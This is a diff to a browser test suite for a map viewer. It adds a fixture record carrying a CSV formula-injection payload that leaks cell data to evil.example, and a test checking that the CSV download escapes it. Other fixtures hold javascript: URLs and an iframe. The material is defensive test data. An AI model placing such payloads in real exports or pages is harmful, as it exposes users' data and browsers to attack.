@@ -12,8 +12,8 @@ let server;
 let browser;
 let site;
 before(async () => {
-  site = path.join(os.tmpdir(), 'kaartviewer-hostile-test');
-  fs.rmSync(site, { recursive: true, force: true });
+  // A folder of its own, so that runs from other work trees at the same time cannot collide.
+  site = fs.mkdtempSync(path.join(os.tmpdir(), 'kaartviewer-hostile-'));
   fs.cpSync(path.join(root, 'dist'), site, { recursive: true });
   const file = path.join(site, 'data/verbanden.json');
   const data = JSON.parse(fs.readFileSync(file, 'utf8'));
@@ -28,6 +28,17 @@ before(async () => {
     website: 'javascript:window.__pwned=5',
     seat: '<iframe src="https://example.org"></iframe>',
     sources: ['https://example.nl/bron', 'javascript:window.__pwned=6', 'mailto:info@example.nl'],
+    checked: '2026-11-23',
+  });
+  // A record whose name is a spreadsheet formula that would leak data when the CSV is opened.
+  data.verbanden.unshift({
+    id: 'formule',
+    name: '=HYPERLINK("http://evil.example/?leak="&A1)',
+    description: '@SUM(1+1)',
+    themes: ['afval'],
+    legal_form: 'nv-bv',
+    members: [{ code: 'GM0344', role: '+31 20 000' }],
+    sources: ['https://example.nl/bron'],
     checked: '2026-11-23',
   });
   fs.writeFileSync(file, JSON.stringify(data));
@@ -62,5 +73,18 @@ test('markup in a record is shown as text, never run, and only http(s) becomes a
   await page.waitForSelector('.verband-list [data-verband=vijandig]');
   assert.equal(await page.locator('.verband-list img').count(), 0);
   assert.deepEqual(errors, []);
+  await page.close();
+});
+
+test('the downloaded CSV cannot run formulas in a spreadsheet', async () => {
+  const { page } = await openViewer(browser, server.url, { query: '?weergave=verbanden&zoek=HYPERLINK' });
+  await page.waitForSelector('.verband-list [data-verband=formule]');
+  const [download] = await Promise.all([page.waitForEvent('download'), page.locator('button.download-csv').click()]);
+  const csv = fs.readFileSync(await download.path(), 'utf8');
+  const row = csv.split('\n').find((line) => line.includes(';formule;'));
+  assert.ok(row, csv);
+  assert.ok(row.includes(';"\'=HYPERLINK(""http://evil.example/?leak=""&A1)";'), row);
+  assert.ok(row.includes(";'@SUM(1+1);") && row.includes(";'+31 20 000;"), row);
+  assert.ok(!/(^|;)"?[=+@-]/.test(row.replace(/^\uFEFF/, '')), `no cell starts a formula: ${row}`);
   await page.close();
 });
